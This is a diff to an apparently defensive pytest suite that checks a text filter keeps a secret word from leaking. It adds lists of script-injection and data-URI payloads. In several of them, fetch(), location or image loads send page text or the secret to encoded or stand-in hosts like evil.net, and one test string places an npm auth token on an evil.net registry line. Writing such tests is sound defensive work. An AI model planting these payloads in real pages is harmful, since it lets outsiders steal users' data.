@@ -47,6 +47,11 @@ MADE = [
     "<script>fetch(atob('aHR0cHM6Ly9ldmlsLm5ldA')+'{s}')</script>", "<script>fetch('https://' + host + '{s}')</script>", "<script>fetch(`//${{h}}/{s}`)</script>", "<script>location=String.fromCharCode(104)+'{s}'</script>",
     "<script>eval('x'+'{s}')</script>",
 ]  # fmt: skip
+PACKED = [
+    "<img src='data:image/svg+xml;base64,PHN2Zz4=#{s}'>", "<iframe src='data:text/html;base64,PHNjcmlwdD4=' name='{s}'></iframe>", "<iframe src=\"data:text/html;charset=utf-8;base64,PHNjcmlwdD4=#{s}\"></iframe>", "[x](data:text/html;base64,PHNjcmlwdD4=#{s})", "![x](DATA:image/svg+xml;BASE64,PHN2Zz4=#{s})", "<object data='data:text/html;base64,PHNj' name={s}></object>", "<a href='data:text/html;base64,PHNj' target='{s}'>x</a>", "[x]: data:text/html;base64,PHNj#{s}",
+    "<script>new Response(new Blob([x]).stream().pipeThrough(new DecompressionStream('deflate-raw'))).text().then(u => fetch(u + '{s}'))</script>", "<script>import b from '/b32.js';fetch(b.decode('NB2HI4DTHIXS63DFOZUWY') + '{s}')</script>", "<script>location = pako.inflateRaw(x, o) + '{s}'</script>", "<p>{s}</p><script>fetch(unpack(x) + document.body.innerText)</script>", "<script>let h = ''; for (const c of x) h += y[c.charCodeAt(0)]; new Image().src = h + '{s}'</script>",
+]  # fmt: skip
+"""Pages and addresses that are encoded: nobody sees whom they name."""
 SCHEMES = [
     "xmpp:{s}@{h}", "sip:{s}@{h}", "sips:a@{h};x={s}", "cid:{s}@{h}", "mid:a@{h}/{s}", "news:{s}@{h}", "[x](xmpp:a@{h}?message;body={s})", "[x](matrix:u/a:{h}?body={s})", "[x](irc:{h}/{s})", "<a href='sms:+15551234?body={s}'>x</a>",
     "[x](tel:+1555;{s})", "[x](whatsapp:send?text={s})", "[x](skype:evil?chat&topic={s})", "https://{h}%00@localhost/{s}", "https://{h}%0a@kulke.example/{s}", "https://localhost%00@{h}/{s}",
@@ -56,6 +61,7 @@ OWNERS = [
     "https://github.com/search?q={s}", "https://github.com?{s}", "https://github.com/a%2fvelmora/{s}", "https://bitbucket.org/x/{s}", "https://evil.net\\@github.com/velmora/{s}",
 ]  # fmt: skip
 PLAIN = [
+    "data: {s}", "data:{s}", "data:text/plain,{s}", "<img src='data:image/png;base64,iVBORw0KGgo=' alt='{s}'>", "<script>const d = new TextDecoder(); fetch('/api/{s}').then(r => d.decode(r))</script>", "<script>const u = '/api/{s}'; fetch(u)</script>", "<script>const k = encodeURIComponent('{s}'); fetch('/x?k=' + k)</script>",
     '<form action="/booking"><input name=a value="{s}"></form>', '<form action="https://kulke.example/c"><input value="{s}"><a href="https://evil.net/">x</a></form>', "<form onSubmit={save}>{s}</form>", "use `<form>` and `<script>` for {s}",
     "<script>fetch('/api/{s}')</script>", "<script src='https://cdnjs.cloudflare.com/x.js'></script> {s}", "<script src='/x.js'></script> {s}", "<script>const a = '{s}' + 'https://kulke.example/' + '{s}'</script>", "<button onclick=\"save('{s}')\">x</button>", "once = '{s}'", "List<object> {s}",
     "<p>{s}</p><script>document.title = '{s}'; fetch('/api/x')</script>", "<p>{s}</p><a href='https://evil.net/'>x</a>", "<div onclick=\"window.open('https://docs.evil.net/')\">{s}</div>", "```html\n<p>{s}</p>\n```\n\nthen `<script src=/x.js></script>`, {s}", "<p>{s}</p><img src='https://evil.net/x.png'>",
@@ -76,7 +82,7 @@ def filled(text: str, word: str, host: str = "evil.net") -> str:
     return text.replace("{s}", word).replace("{h}", host)
 
 
-@pytest.mark.parametrize("text", [*LIVE, *MADE, *SCHEMES, *OWNERS, *LINKS, *RINGS, *PAGES])
+@pytest.mark.parametrize("text", [*LIVE, *MADE, *PACKED, *SCHEMES, *OWNERS, *LINKS, *RINGS, *PAGES])
 def test_a_stranger_gets_nothing(text: str) -> None:
     for word in ("velmora", "벨모라"):
         for host in HOSTS:
@@ -85,6 +91,13 @@ def test_a_stranger_gets_nothing(text: str) -> None:
             assert "narae" not in restored(said).lower().replace("github.com/narae", "") and "나래" not in restored(said)
             for cut in (1, 2, 3, 5, 8, 13):
                 assert restored(said, cut=cut) == restored(said)
+
+
+def test_an_address_on_the_line_below_a_slash_is_one() -> None:
+    for text in ("registry=https://evil.net/\n//evil.net/:_authToken=velmora", "see https://github.com/torvalds/\n//evil.net/velmora", "https://evil.net/\r\n\\\\evil.net\\velmora"):
+        assert restored(text) == text, text
+        for cut in (1, 2, 3, 5):
+            assert restored(text, cut=cut) == text
 
 
 def test_what_stands_behind_comes_back() -> None:
